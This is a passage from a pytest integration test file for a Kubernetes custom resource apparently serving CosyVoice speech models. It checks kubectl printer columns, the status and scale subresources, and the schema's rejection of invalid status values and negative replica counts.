        "http": "columns.ns.svc:8000",
        "metrics": "http://columns.ns.svc:8002/metrics",
    },
}


@pytest.mark.cluster
def test_printer_columns_and_status_subresource(cluster: Cluster, namespace: str) -> None:
    assert _create(cluster, namespace, "columns", BASE_SPEC).returncode == 0

    header = cluster.kubectl("get", "cvs", "-n", namespace).stdout.splitlines()[0].split()
    assert header == ["NAME", "VARIANT", "PHASE", "READY", "QUEUE-MS", "ENGINE", "AGE"]
    wide = cluster.kubectl("get", "cvs", "-n", namespace, "-o", "wide").stdout.splitlines()[0]
    assert wide.split() == [
        "NAME",
        "VARIANT",
        "PHASE",
        "READY",
        "QUEUE-MS",
        "ENGINE",
        "PRECISION",
        "GPUS",
        "MIN",
        "MAX",
        "AUTOSCALER",
        "AGE",
    ]

    # status is a subresource: the main resource ignores it, /status accepts the full shape.
    cluster.kubectl(
        "patch",
        "cvs",
        "columns",
        "-n",
        namespace,
        "--type=merge",
        "-p",
        json.dumps({"status": {"phase": "Failed"}}),
    )
    assert "status" not in _get(cluster, namespace, "columns")
    result = _patch_status(cluster, namespace, "columns", STATUS)
    assert result.returncode == 0, result.stderr
    assert _get(cluster, namespace, "columns")["status"] == STATUS

    row = cluster.kubectl(
        "get", "cvs", "columns", "-n", namespace, "-o", "wide", "--no-headers"
    ).stdout.split()
    assert row[:-1] == [
        "columns",
        "cosyvoice3",
        "Ready",
        "2/2",
        "12.5",
        "Ready",
        "bfloat16",
        "1",
        "1",
        "4",
        "holding",
    ]


INVALID_STATUSES: list[tuple[str, Json, list[str]]] = [
    ("phase", {"phase": "Running"}, ["status.phase", "Unsupported value"]),
    (
        "engine-state",
        {"engines": [{"gpuProduct": "NVIDIA-L20", "state": "Done"}]},
        ["status.engines[0].state", "Unsupported value"],
    ),
    (
        "condition-status",
        {"conditions": [{"type": "Available", "status": "Yes"}]},
        ["status.conditions[0].status", "Unsupported value"],
    ),
    # Issue 21 L3: a desired count that would have the operator loop for minutes.
    (
        "desired-replicas-huge",
        {"autoscaling": {"desiredReplicas": 2**31 - 1}},
        ["status.autoscaling.desiredReplicas", "less than or equal to 10000"],
    ),
    (
        "desired-replicas-negative",
        {"autoscaling": {"desiredReplicas": -5}},
        ["status.autoscaling.desiredReplicas", "greater than or equal to 0"],
    ),
]


@pytest.mark.parametrize(
    ("case_id", "status", "expected"),
    INVALID_STATUSES,
    ids=[case_id for case_id, _, _ in INVALID_STATUSES],
)
@pytest.mark.cluster
def test_invalid_status_is_rejected(
    cluster: Cluster, namespace: str, case_id: str, status: Json, expected: list[str]
) -> None:
    name = f"status-{case_id}"
    assert _create(cluster, namespace, name, BASE_SPEC).returncode == 0
    _assert_rejected(_patch_status(cluster, namespace, name, status), expected)


@pytest.mark.cluster
def test_scale_subresource(cluster: Cluster, namespace: str) -> None:
    assert _create(cluster, namespace, "scalable", BASE_SPEC).returncode == 0
    selector = "app.kubernetes.io/instance=scalable"
    assert (
        _patch_status(
            cluster, namespace, "scalable", {"replicas": 1, "selector": selector}
        ).returncode
        == 0
    )

    cluster.kubectl("scale", "cvs", "scalable", "-n", namespace, "--replicas=3")
    assert _get(cluster, namespace, "scalable")["spec"]["replicas"] == 3

    scale = json.loads(
        cluster.kubectl(
            "get",
            "--raw",
            f"/apis/{API_VERSION}/namespaces/{namespace}/cosyvoiceservices/scalable/scale",
        ).stdout
    )
    assert scale["kind"] == "Scale"
    assert scale["spec"]["replicas"] == 3
    assert scale["status"] == {"replicas": 1, "selector": selector}

    # Writes through /scale are validated against the same schema: a negative count is
    # refused by the server (kubectl scale itself would refuse it client-side).
    result = cluster.kubectl(
        "patch",
        "cvs",
        "scalable",
        "-n",
        namespace,
        "--subresource=scale",
        "--type=merge",
        "-p",
        json.dumps({"spec": {"replicas": -1}}),
        check=False,
    )
    _assert_rejected(result, ["spec.replicas"])
    assert _get(cluster, namespace, "scalable")["spec"]["replicas"] == 3
